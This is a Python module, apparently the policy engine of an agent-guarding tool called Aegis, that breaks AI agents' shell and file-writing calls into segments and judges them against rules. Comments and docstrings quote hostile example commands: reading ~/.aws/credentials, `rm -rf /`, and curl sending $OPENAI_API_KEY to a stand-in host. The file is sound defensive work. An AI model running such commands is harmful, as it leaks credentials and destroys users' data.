"""The policy engine: turns a ToolCall into Subjects (the call, or each shell segment),
runs the rules over each (first match by priority wins), and combines the results
strictest-wins into one Verdict. ``explain`` returns the same decision with its trace."""

from __future__ import annotations

import os
import re
import weakref
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from typing import Any

from aegis_core.models import Action, Kind, ToolCall, Verdict
from aegis_core.policy import risk as risk_module
from aegis_core.policy.argpaths import (
    BRACED_REFERENCE,
    LOOP,
    SETTERS,
    loop_variables,
    remember_read,
    remember_variables,
    representative,
)
from aegis_core.policy.autorun import written_text
from aegis_core.policy.checks import found_names
from aegis_core.policy.codecommands import Crowded
from aegis_core.policy.facts import PATH_PROBLEMS, Subject, call_facts, call_kind, segment_facts, with_found_names
from aegis_core.policy.ondisk import script_on_disk
from aegis_core.policy.patchtext import patch_writes
from aegis_core.policy.paths import CallBudget, any_positive, followed_environment, home_dir, normalise
from aegis_core.policy.places import project_root
from aegis_core.policy.requestfiles import REQUEST_PROGRAMS, readable_requests
from aegis_core.policy.rules import Rule
from aegis_core.policy.scripts import may_run_script
from aegis_core.policy.secretshapes import SECRET_VARIABLE
from aegis_core.policy.shell import Segment, ShellAnalysis, analyse
from aegis_core.policy.taskrunners import TASK_PROGRAMS, task_code
from aegis_core.policy.tokens import MAX_TOKENS, Problem, kind_of
from aegis_core.policy.words import Arg
from aegis_core.policy.written import ASKS_WHEN_WRITTEN, DESTRUCTIVE_ASKS, WRITTEN_VIA, written_code, written_unread
from aegis_core.tools import input_problem

MAX_SEGMENTS = 120
UNKNOWN_DIR = "/<unknown directory>"


@dataclass
class Tried:
    rule: str
    matched: bool
    detail: str


@dataclass
class SubjectTrace:
    text: str
    program: str = ""
    wrappers: tuple[str, ...] = ()
    via: str = ""
    paths: tuple[str, ...] = ()
    tried: list[Tried] = field(default_factory=list)
    action: str = ""
    rule: str | None = None
    family: str | None = None  # the pack of the rule that decided


@dataclass
class Trace:
    """How a verdict was reached: segments found, wrappers unwrapped, rules tried."""

    call: str
    verdict: Verdict
    subjects: list[SubjectTrace] = field(default_factory=list)
    problems: tuple[str, ...] = ()
    notes: tuple[str, ...] = ()
    risk_reasons: tuple[str, ...] = ()
    family: str | None = None  # the pack (family) of the rule behind the verdict

    def to_dict(self) -> dict[str, Any]:
        return {
            "call": self.call,
            "verdict": self.verdict.to_dict(),
            "rule": self.verdict.rule,
            "family": self.family,
            "problems": list(self.problems),
            "notes": list(self.notes),
            "risk_reasons": list(self.risk_reasons),
            "subjects": [
                {"text": s.text, "program": s.program, "wrappers": list(s.wrappers), "via": s.via,
                 "paths": list(s.paths), "action": s.action, "rule": s.rule, "family": s.family,
                 "tried": [{"rule": t.rule, "matched": t.matched, "detail": t.detail} for t in s.tried]}
                for s in self.subjects
            ],
        }

    def lines(self) -> list[str]:
        out = [f"call: {self.call[:200]}"]
        for note in self.notes:
            out.append(f"note: {note}")
        for problem in self.problems:
            out.append(f"cannot analyse with confidence: {problem}")
        for number, subject in enumerate(self.subjects, 1):
            head = f"segment {number}: {subject.text}"
            if subject.wrappers:
                head += f"  [unwrapped: {', '.join(subject.wrappers)}]"
            if subject.via:
                head += f"  [found in: {subject.via}]"
            out.append(head)
            if subject.paths:
                out.append(f"  paths: {', '.join(subject.paths[:8])}")
            for tried in subject.tried:
                mark = "FIRED" if tried.matched else "no   "
                out.append(f"  {mark} {tried.rule}: {tried.detail}")
            decided = f"rule {subject.rule}, family {subject.family or '-'}" if subject.rule else "default action"
            out.append(f"  -> {subject.action} ({decided})")
        v = self.verdict
        out.append(f"verdict: {v.action.value}")
        out.append(f"rule: {v.rule} (family: {self.family or 'built-in'})")
        out.append(f"risk: {v.risk}")
        if self.risk_reasons:
            out.append(f"risk reasons: {'; '.join(self.risk_reasons)}")
        out.append(f"reason: {v.reason}")
        return out

    def __str__(self) -> str:
        return "\n".join(self.lines())


def build_subjects(call: ToolCall, home: str | None = None) -> tuple[list[Subject], ShellAnalysis | None, str | None]:
    """The subjects of a call; third value is a reason the call cannot be judged at all."""
    with CallBudget() as budget:
        return _build_subjects(call, home, budget)


def _build_subjects(call: ToolCall, home: str | None,
                    budget: CallBudget) -> tuple[list[Subject], ShellAnalysis | None, str | None]:
    home = home or home_dir()
    start = normalise(call.cwd, None, home, budget.bucket) if call.cwd and call.cwd.startswith("/") else None
    project = project_root(start, home)
    kind = call_kind(call)
    problem = input_problem(kind, call.input, call.files, call.urls)
    if problem is not None:
        return [], None, f"the tool input is malformed: {problem}"
    if kind is not Kind.SHELL:
        reads, writes, urls = call_facts(call, home)
        subject = Subject(call, None, None, project, start, home, reads, writes, urls)
        if kind in (Kind.WRITE, Kind.EDIT):
            unjudged: list[str] = []
            written = [subject, *_written_code(call, project, start, home, budget, unjudged)]
            # A patch (Codex's apply_patch): each file's added text judged as a Write or
            # Edit of that file would be (see patchtext.py).
            for each in patch_writes(call) if written_text(call.input) is None else ():
                reads, writes, urls = call_facts(each, home)
                written.append(Subject(each, None, None, project, start, home, reads, writes, urls))
                written.extend(_written_code(each, project, start, home, budget, unjudged))
            if unjudged:
                subject.cache[_UNJUDGED] = unjudged
            return written, None, None
        return [subject], None, None
    command = call.input.get("command") if hasattr(call.input, "get") else None
    if not isinstance(command, str):
        return [], None, "the shell call has no command string"
    if not command.strip():
        return [], None, "the command is empty; there is nothing to run"
    analysis = analyse(command)
    if len(analysis.segments) > MAX_SEGMENTS:
        return [], analysis, f"the command has {len(analysis.segments)} parts, too many to judge one by one"
    subjects: list[Subject] = []
    unreadable: list[str] = []  # files a command runs that exist but cannot be read safely
    cwd = start
    # Variables the command sets for itself (`f=~/.aws/credentials; cat $f`).
    variables: dict[str, str] = {}
    if analysis.segments and "for" in command[:8192]:
        loop_variables(command, variables)
    for seg in analysis.segments:
        if seg.function_call:
            continue
        if variables:
            seg = _with_known_values(seg, cwd, home, variables)
        if seg.runs_for >= 0 or (seg.pipe_from and seg.wrappers):
            seg = with_found_names(seg, analysis.segments)
        reads, writes, urls = segment_facts(seg, cwd, home, budget, variables)
        subject = Subject(call, seg, analysis, project, cwd, home, reads, writes, urls)
        if seg.via.startswith(WRITTEN_VIA):
            subject.cache[_DEFERRED] = seg.via[len(WRITTEN_VIA):]
        if variables:
            subject.cache["_variables"] = dict(variables)  # for checks that read arguments themselves
        subjects.append(subject)
        if not seg.via.startswith(WRITTEN_VIA):
            # `python tools/collect.py`, `make nuke`, `npm run x`: what the file holds runs
            # now (see ondisk.py, taskrunners.py).
            subjects.extend(_run_from_disk(call, seg, project, cwd, home, budget, unreadable, set_here=variables))
        if seg.assignments or seg.program in SETTERS:
            remember_variables(seg.program, seg.assignments, seg.argv, variables)
        elif seg.program == "read" and seg.stdin_text:
            remember_read(seg.argv, seg.stdin_text, variables)
        if seg.program in ("cd", "pushd") and not seg.via:
            target = seg.args[1] if len(seg.args) > 1 else None
            if target is None:
                cwd = home
            elif target.text == "-":
                cwd = UNKNOWN_DIR
            elif target.dynamic:
                # `cd $AEGIS_HOME`: a folder the policy can know as well as the shell.
                known = representative(target.text, cwd, home, variables)
                cwd = normalise(known, cwd or UNKNOWN_DIR, home) or UNKNOWN_DIR if known and "$" not in known \
                    else UNKNOWN_DIR
            else:
                cwd = normalise(target.text, cwd or UNKNOWN_DIR, home) or UNKNOWN_DIR
    if unreadable:
        analysis = replace(analysis, problems=(*analysis.problems, *dict.fromkeys(unreadable)))
    return subjects, analysis, None


def _run_from_disk(call: ToolCall, seg: Segment, project: str | None, cwd: str | None, home: str,
                   budget: CallBudget, unreadable: list[str], depth: int = 0,
                   set_here: dict[str, str] | None = None) -> list[Subject]:
    """Subjects for what ``seg`` runs from a file: a script (``python x.py``,
    ``./bin/dev``) or a task runner's target (``make x``, ``npm run x``)."""
    if cwd == UNKNOWN_DIR or not (seg.program in _RUNS_FROM_FILES or may_run_script(seg)):
        return []  # nearly always: a program that runs nothing from a file
    on_disk = script_on_disk(seg, cwd, home)
    if on_disk is not None:
        return _code_subjects(call, *on_disk, project, cwd, home, budget, unreadable, run_now=True, depth=depth)
    task = task_code(seg, cwd, home, set_here)
    if task is None:
        requests = readable_requests(seg, cwd, home)
        if requests is None:
            return []
        # `curl -K cfg`, `wget -i urls.txt`: the requests the file holds, as typed.
        return _segment_subjects(call, requests[0], requests[1], project, cwd, home, budget, run_now=True)
    if task.problem is not None:
        unreadable.append(task.problem)
        return []
    return _segment_subjects(call, task.path, task.code, project, os.path.dirname(task.path), home, budget,
                             run_now=True, depth=depth, unreadable=unreadable)


# Programs that run what a file holds, besides the scripts (scripts.may_run_script): task
# runners (task_code) and fetchers reading their requests from a file (readable_requests).
_RUNS_FROM_FILES = TASK_PROGRAMS | REQUEST_PROGRAMS

_DEFERRED = "_written_script"  # Subject.cache key: the script file this code is written to


def _written_code(call: ToolCall, project: str | None, cwd: str | None, home: str,
                  budget: CallBudget, unjudged: list[str]) -> list[Subject]:
    """Subjects for the commands a Write/Edit puts into a script, makefile or
    package.json (judged as if they ran in the project; see ``written``)."""
    unread = written_unread(call)
    if unread is not None:
        # The call asks for what is not read (see Policy._decide), and code judged here can
        # only ask, never deny: reading the rest could not change the verdict, only cost
        # the time a text made to be slow takes to read.
        unjudged.append(unread)
        return []
    try:
        found = written_code(call)
    except Crowded as crowded:  # not read: the call asks, as for what is unread
        unjudged.append(str(crowded))
        return []
    if found is None:
        return []
    path, code = found
    return _segment_subjects(call, path, code, project, cwd, home, budget, unreadable=unjudged)


# Subject.cache key: why some of the code a Write puts into a file was not judged.
_UNJUDGED = "_unjudged"


def _segment_subjects(call: ToolCall, path: str, code: str, project: str | None, cwd: str | None, home: str,
                      budget: CallBudget, run_now: bool = False, depth: int = 0,
                      unreadable: list[str] | None = None) -> list[Subject]:
    analysis = analyse(code)
    parts = [analysis]
    if not analysis.segments and analysis.problems and "\n" in code and len(code) <= _MAX_PARTED:
        parts = _analysed_parts(code) or parts  # a long script: read in parts of whole lines
    pairs = [(part, seg) for part in parts for seg in part.segments]
    subjects = []
    if unreadable is not None:
        # What is not judged must not pass unseen: the commands past MAX_SEGMENTS, or all
        # of them when the analysis gave up on the text (too long or too intricate).
        if len(pairs) > MAX_SEGMENTS:
            unreadable.append(f"{path} holds more than {MAX_SEGMENTS} commands, too many to judge one by one")
            # The call asks for that alone, and code judged here can only ask, never deny
            # (see Policy._decide): judging the first commands could not change the verdict.
            return []
        if not pairs and analysis.problems:
            unreadable.append(f"the commands in {path} cannot be read one by one ({analysis.problems[0]})")
    for part, seg in pairs[:MAX_SEGMENTS]:
        if seg.function_call:
            continue
        reads, writes, urls = segment_facts(seg, cwd, home, budget)
        subject = Subject(call, seg, part, project, cwd, home, reads, writes, urls)
        subject.cache[_DEFERRED] = path
        if run_now:
            subject.cache[_RUN_NOW] = True
        subjects.append(subject)
        if run_now and depth < _MAX_RUN_DEPTH and unreadable is not None:
            # A target that runs a script or another target (`make all` -> `./x.sh`,
            # `npm run a` -> `npm run b`): those run now too, a few levels deep.
            for inner in _run_from_disk(call, seg, project, cwd, home, budget, unreadable, depth + 1):
                inner.cache[_DEFERRED] = f"{path} -> {inner.cache.get(_DEFERRED, '')}"
                subjects.append(inner)
    return subjects


_MAX_RUN_DEPTH = 3
# A part of a long script holds about this many words: under the analysis' own limit
# (tokens.MAX_TOKENS), with room for a construct that spans lines to close.
_PART_WORDS = 280
# Scripts read in parts at most this long (a 400-line script): a longer one asks as a
# whole, so that a text made to be slow costs a bounded time (benchmarks/policy_bench.py).
_MAX_PARTED = 16 * 1024
_RETRY_WORDS = 30
# A line ending so continues on the next: a part never ends there (`rm -rf \` + `~`).
_OPEN_ENDINGS = ("\\", "|", "&", "(", "{", "[", ",", "=")
_HEREDOC = re.compile(r"(?<!<)<<(?!<)-?\s*(['\"]?)([\w.-]+)\1")  # not <<< (a here-string is one word)


# A part whose only problems are programs named by a variable (`$(CC) -c x.c`, judged as
# computed) has every command in it read: the cut is sound, as it is for a script read
# whole (see _segment_subjects). Any other problem may come from a cut inside a construct.
def _read_whole(part: ShellAnalysis) -> bool:
    return bool(part.segments) and all(kind_of(problem) == Problem.COMPUTED for problem in part.problems)


# Only a part ending inside a construct the next lines close (a quote, a `$(`, a
# here-document) grows; any other problem (too many words, a `case`) stays whatever
# follows, and growing would re-read the part in vain.
def _left_open(part: ShellAnalysis) -> bool:
    return any(kind_of(problem) == Problem.OPEN for problem in part.problems)


def _analysed_parts(code: str) -> list[ShellAnalysis] | None:
    """A script too long for one analysis, analysed in parts of whole lines, so that a
    long routine script is judged command by command instead of asking as a whole. A part
    grows while it ends inside a construct (if/fi, a quote, a here-document, a line that
    continues) and the analysis cannot read it yet; None when one still cannot be read.
    Reading stops once the parts hold more commands than are judged (the caller says so)."""
    parts: list[ShellAnalysis] = []
    lines: list[str] = []
    words = tried = segments = 0
    heredocs: list[str] = []  # delimiters of here-documents still open, in order
    for line in code.splitlines(keepends=True):
        lines.append(line)
        words += len(line.split())
        if heredocs:
            if line.strip() == heredocs[0]:
                heredocs.pop(0)
        elif "<<" in line:
            # The analysis reads an unclosed here-document without a problem, so a part
            # ending inside one must be prevented here: the next part would read its
            # text as commands and could pair a quote in it with one past its end.
            heredocs = [found.group(2) for found in _HEREDOC.finditer(line)]
        if heredocs or words < _PART_WORDS or words < tried + _RETRY_WORDS \
                or line.rstrip().endswith(_OPEN_ENDINGS):
            if words > MAX_TOKENS and heredocs:
                return None
            continue
        part = analyse("".join(lines))
        if part.problems and not _read_whole(part):  # e.g. a quote still open: the next part would start inside it
            if words > MAX_TOKENS or not _left_open(part):
                return None  # more lines cannot help: the rest of the script asks as a whole
            tried = words
            continue
        parts.append(part)
        segments += len(part.segments)
        if segments > MAX_SEGMENTS:
            return parts
        lines, words, tried = [], 0, 0
    if lines:
        part = analyse("".join(lines))
        if part.problems and not _read_whole(part):
            return None
        parts.append(part)
    return parts


def _code_subjects(call: ToolCall, path: str, content: str, project: str | None, cwd: str | None, home: str,
                   budget: CallBudget, unreadable: list[str], run_now: bool, depth: int = 0) -> list[Subject]:
    """Subjects for a script file's content, judged as if it were written now: the
    file written (the checks on written code: secrets sent away...) and each command
    it runs; why its commands were not read, into ``unreadable``."""
    written = ToolCall(agent=call.agent, tool="Write", kind=Kind.WRITE, input={"file_path": path, "content": content},
                       cwd=call.cwd, session=call.session)
    reads, writes, urls = call_facts(written, home)
    subject = Subject(written, None, None, project, cwd, home, reads, writes, urls)
    subject.cache[_DEFERRED] = path
    if run_now:
        subject.cache[_RUN_NOW] = True
    try:
        found = written_code(written)
    except Crowded as crowded:  # not read: the command asks (see _build_subjects)
        unreadable.append(str(crowded))
        found = None
    code = found[1] if found is not None else ""
    if not code:
        return [subject]
    # What is not judged asks (more commands than judged one by one, text that cannot be
    # read), as for a file written now: 120 routine calls must not hide the next one.
    return [subject, *_segment_subjects(call, path, code, project, cwd, home, budget, run_now, depth,
                                        unreadable=unreadable)]


_RUN_NOW = "_run_now"  # Subject.cache key: deferred code that this very command runs from disk


def _with_known_values(seg: Segment, cwd: str | None, home: str, variables: dict[str, str]) -> Segment:
    """The segment with the values the command itself gave its variables put in
    (`cmd=publish; npm $cmd` is `npm publish`, `a=rm; $a -rf /` is `rm -rf /`), for the
    arguments whose value is then fully known; the others stay computed."""
    if not any(a.dynamic for a in seg.args):
        return seg
    args = []
    changed = False
    for arg in seg.args:
        if arg.dynamic and "${" in arg.text:
            known = representative(arg.text, cwd, home, variables)
            if known is not None and "$" not in known and not known.startswith("{"):
                args.append(Arg(known, False, False, True))
                changed = True
                continue
            carried = _secrets_carried(arg.text, variables)
            if carried is not None:
                args.append(replace(arg, text=carried))
                changed = True
                continue
        args.append(arg)
    if not changed:
        return seg
    program = args[0].text.rsplit("/", 1)[-1] if args else ""
    return replace(seg, args=tuple(args), program=program, tricky=seg.tricky or args[0].tricky)


def _secrets_carried(text: str, variables: dict[str, str]) -> str | None:
    """``text`` with each variable the command set from a secret one (`K=$OPENAI_API_KEY;
    curl "https://x.example/?k=$K"`, `for t in $GITHUB_TOKEN`) spelled as that secret
    one, still computed: the checks on secrets sent away see the name that says what it
    holds. None when no such variable is in it."""
    found = False

    def secret_value(match: re.Match[str]) -> str:
        nonlocal found
        value = variables.get(match.group(1)) or variables.get(LOOP + match.group(1))
        if value is None or not any(SECRET_VARIABLE.search(name) for name in _REFERENCE.findall(value)):
            return match.group(0)
        found = True
        return " ".join(f"${{{name}}}" for name in _REFERENCE.findall(value))

    carried = BRACED_REFERENCE.sub(secret_value, text)
    return carried if found and len(carried) <= 4096 else None


# A value's references in either spelling (a loop's words are kept as written).
_REFERENCE = re.compile(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)")


class Policy:
    """A loaded policy: rules in priority order and the action when none matches."""

    def __init__(self, rules: list[Rule], default_action: Action = Action.REQUIRE_APPROVAL,
                 source: str = "<built-in default>") -> None:
        self.rules = rules
        self.default_action = default_action
        self.source = source
        self._candidates_cache: dict[tuple[str, Kind, str | None, frozenset[str], int], list[Rule]] = {}
        # The glob sets of the rules that match by paths alone, and the paths none of them
        # matches (for the HOME and AEGIS_HOME they followed then): a subject naming only
        # such paths skips those rules, one set lookup per path instead of a test per rule
        # (most calls name files in the project, which no secret or state glob matches).
        self._path_globs = tuple({id(r.path_only): r.path_only for r in rules if r.path_only is not None}.values())
        self._positive: tuple[object, Callable[[str], bool]] | None = None  # see _any_positive
        self._unmatched: tuple[tuple[object, object] | None, set[str]] = (None, set())
        _POLICIES.add(self)

    def __repr__(self) -> str:
        return f"Policy({self.source!r}, {len(self.rules)} rules, default {self.default_action.value})"

    def _candidates(self, subject: Subject) -> list[Rule]:
        """Rules that can match this subject (its tool, kind, program, the facts it has and
        what the checks found in it), in priority order."""
        seg = subject.segment
        program = seg.program if seg is not None else None
        tool, kind = subject.call.tool, call_kind(subject.call)
        # Rules made only of checks that found nothing here cannot match: leave them out.
        checks_found = found_names(subject)
        shape = subject.shape
        key = (tool, kind, program, checks_found, shape)
        found = self._candidates_cache.get(key)
        if found is None:
            found = [r for r in self.rules if r.applies_to(tool, kind, seg is not None)
                     and r.can_run(program)
                     and (not r.match.check or any(c in checks_found for c in r.match.check))
                     and r.can_match(shape)]
            if len(self._candidates_cache) < 8192:
                self._candidates_cache[key] = found
        return found

    def _matches_no_path_rule(self, paths: tuple[str, ...]) -> bool:
        """No rule that matches by paths alone matches any of ``paths``."""
        environment = followed_environment()
        kept = self._unmatched  # read once: the environment and its paths go together
        if kept[0] != environment:
            kept = self._unmatched = (environment, set())
        unmatched = kept[1]
        positive = None
        for path in paths:
            if path in unmatched:
                continue
            if positive is None:
                positive = self._any_positive(environment)
            # Most paths match no rule's glob: one test of them all first, rather than a
            # test per rule (a command may name hundreds of paths).
            if positive(path) and any(globs.matches_now(path) for globs in self._path_globs):
                return False
            if len(unmatched) >= _UNMATCHED_KEPT:
                unmatched.clear()
            unmatched.add(path)
        return True

    def _any_positive(self, environment: object) -> Callable[[str], bool]:
        """paths.any_positive of the path-only rules' globs, as they are built for
        ``environment`` (HOME and AEGIS_HOME now: the globs that follow them are rebuilt
        first, as matches_now would)."""
        kept = self._positive
        if kept is None or kept[0] != environment:
            for globs in self._path_globs:
                if globs._follows_env:
                    globs.follow_environment()
            kept = self._positive = (environment, any_positive(self._path_globs))
        return kept[1]

    def _judge(self, subject: Subject, trace: SubjectTrace | None) -> tuple[Action, Rule | None, str]:
        unmatched = None  # whether no path-only rule can match here, worked out when first needed
        for rule in self._candidates(subject):
            if subject.risk < rule.min_risk:  # the cheapest matcher, answered without a call
                if trace is not None:
                    trace.tried.append(Tried(rule.name, False, "risk_min"))
                continue
            if rule.path_only is not None:
                if unmatched is None:
                    unmatched = self._matches_no_path_rule(subject.paths)
                if unmatched:
                    if trace is not None:
                        trace.tried.append(Tried(rule.name, False, rule.only_matcher[0]))  # type: ignore[index]
                    continue
            matched, detail = rule.test(subject)
            if trace is not None:
                trace.tried.append(Tried(rule.name, matched, detail))
            if matched:
                return rule.action, rule, detail
        return self.default_action, None, ""

    def evaluate(self, call: ToolCall) -> Verdict:
        return self._run(call, None)

    def explain(self, call: ToolCall) -> Trace:
        trace = Trace(call=call.summary(), verdict=Verdict(Action.DENY))
        trace.verdict = self._run(call, trace)
        trace.family = self.family_of(trace.verdict.rule)
        return trace

    def family_of(self, rule_name: str | None) -> str | None:
        """The pack (family) of a rule of this policy, or None for Aegis' own verdicts."""
        for rule in self.rules:
            if rule.name == rule_name:
                return rule.pack or None
        return None

    def _run(self, call: ToolCall, trace: Trace | None) -> Verdict:
        try:
            return self._decide(call, trace)
        except Exception as exc:  # fail closed: a bug here must never allow
            return Verdict(Action.DENY, rule="aegis:policy-error", risk=100, source="policy",
                           reason=f"the policy engine failed on this call ({type(exc).__name__}: {exc}); "
                                  "denied to be safe. Report it and ask the user to run the command.")

    def _decide(self, call: ToolCall, trace: Trace | None) -> Verdict:
        subjects, analysis, fatal = build_subjects(call)
        if analysis is not None and trace is not None:
            trace.problems, trace.notes = analysis.problems, analysis.notes
        if fatal is not None:
            action = (Action.DENY if "no command" in fatal or "empty" in fatal or "malformed" in fatal
                      else Action.REQUIRE_APPROVAL)
            return Verdict(action, rule="aegis:unjudgeable", risk=50, source="policy", reason=f"{fatal}.")
        deferred = [s for s in subjects if _DEFERRED in s.cache] if len(subjects) > 1 else []
        score, risk_reasons = risk_module.score_subjects([s for s in subjects if _DEFERRED not in s.cache]
                                                         if deferred else subjects, analysis)
        if trace is not None:
            trace.risk_reasons = risk_reasons
        best: tuple[Action, Rule | None, str, Subject] | None = None
        for subject in subjects:
            subject.risk = 0 if deferred and _DEFERRED in subject.cache else score
            sub_trace = None
            if trace is not None:
                seg = subject.segment
                sub_trace = SubjectTrace(
                    text=seg.text if seg else call.summary()[:300], program=seg.program if seg else "",
                    wrappers=seg.wrappers if seg else (), via=seg.via if seg else "", paths=subject.paths)
                trace.subjects.append(sub_trace)
            action, rule, detail = self._judge(subject, sub_trace)
            if deferred and _DEFERRED in subject.cache:
                # Code written now, run later: only what would be blocked counts, and it
                # asks (the user sees the content) rather than blocks the write.
                counted = DESTRUCTIVE_ASKS if _RUN_NOW in subject.cache else ASKS_WHEN_WRITTEN
                if action is not Action.DENY and not (rule is not None and rule.name in counted):
                    action = Action.ALLOW
                else:
                    action = Action.REQUIRE_APPROVAL
                    detail = (f"{subject.cache[_DEFERRED]}, which this command runs, holds what "
                              f"this rule catches: {detail}" if _RUN_NOW in subject.cache else
                              f"written to {subject.cache[_DEFERRED]}, to run later; blocked if it ran now: {detail}")
            if sub_trace is not None:
                sub_trace.action, sub_trace.rule = action.value, rule.name if rule else None
                sub_trace.family = rule.pack or None if rule else None
            if best is None or action.strictness > best[0].strictness:
                best = (action, rule, detail, subject)
            if best[0] is Action.DENY and trace is None:
                break
        problems_found = list(analysis.problems) if analysis is not None and analysis.problems else []
        problems_found.extend(_path_problems(subjects))
        if subjects and _UNJUDGED in subjects[0].cache:
            problems_found.extend(subjects[0].cache[_UNJUDGED])
        if problems_found and (best is None or best[0] is not Action.DENY):
            problems = "; ".join(problems_found[:3])
            return Verdict(Action.REQUIRE_APPROVAL, rule="aegis:uncertain-shell", risk=max(score, 40),
                           source="policy", reasons=risk_reasons,
                           reason=f"Aegis cannot tell for sure what this command runs ({problems}), "
                                  "so it needs the user's approval. A simpler command without "
                                  "computed parts would be judged directly.")
        if best is None:
            return Verdict(Action.REQUIRE_APPROVAL, rule="aegis:nothing-to-judge", risk=score,
                           source="policy", reason="the command runs nothing Aegis can judge; "
                           "it needs the user's approval.")
        action, rule, detail, subject = best
        # Positional (action, reason, rule, risk, source, reasons): this runs for every call.
        return Verdict(action, _reason(action, rule, detail, subject), rule.name if rule else "default", score,
                       "policy", risk_reasons, rule.quorum if rule is not None else 1)


_POLICIES: weakref.WeakSet[Policy] = weakref.WeakSet()
_UNMATCHED_KEPT = 8192  # paths kept per policy as matching no path-only rule; then it starts afresh


def forget() -> None:
    """Forget which paths every policy found no path-only rule matching (policy.forget_caches)."""
    for policy in list(_POLICIES):
        policy._unmatched = (None, set())


_MARKERS = frozenset(PATH_PROBLEMS)
_UNDER_UNKNOWN_DIR = UNKNOWN_DIR + "/"
_UNKNOWN_DIR_PROBLEM = ("a path is relative to a folder only known at run time (a `cd` to a computed folder "
                        "came first); the same command with absolute paths would be judged directly")


def _path_problems(subjects: list[Subject]) -> list[str]:
    """Why paths of the call could not be judged (see facts.PATH_PROBLEMS)."""
    found: list[str] = []
    for subject in subjects:
        if subject.cwd == UNKNOWN_DIR and any(p.startswith(_UNDER_UNKNOWN_DIR) for p in subject.paths) \
                and _UNKNOWN_DIR_PROBLEM not in found:
            found.append(_UNKNOWN_DIR_PROBLEM)
        if _MARKERS.isdisjoint(subject.paths):
            continue  # nearly always: one scan in C
        for path in subject.paths:
            problem = PATH_PROBLEMS.get(path)
            if problem is not None and problem not in found:
                found.append(problem)
    return found


def _what(call: ToolCall) -> str:
    """The call in one line: a prompt by its question (its summary starts with the
    lines above the question), anything else by its summary's first line."""
    if call.kind is Kind.PROMPT and isinstance(call.input.get("question"), str):
        return call.input["question"].strip()[:200]
    return call.summary().split("\n", 1)[0][:200]


def _reason(action: Action, rule: Rule | None, detail: str, subject: Subject) -> str:
    """What was found and which rule found it, once. What to do next is said by whoever
    acts on the verdict (the daemon denies or asks), not here."""
    if action is Action.ALLOW:
        return f"allowed by rule '{rule.name}'" if rule else "allowed by the policy's default action"
    what = subject.segment.text if subject.segment is not None else _what(subject.call)
    found = f" ({detail})" if detail and detail != "matched" else ""
    if rule is None:
        why = "no rule covers it, and the policy's default is to " + (
            "deny" if action is Action.DENY else "ask")
        return f"{what}: {why}"
    text = rule.reason or f"rule '{rule.name}'"
    return f"{text}{found}: {what} [rule {rule.name}]".replace(os.linesep, " ")
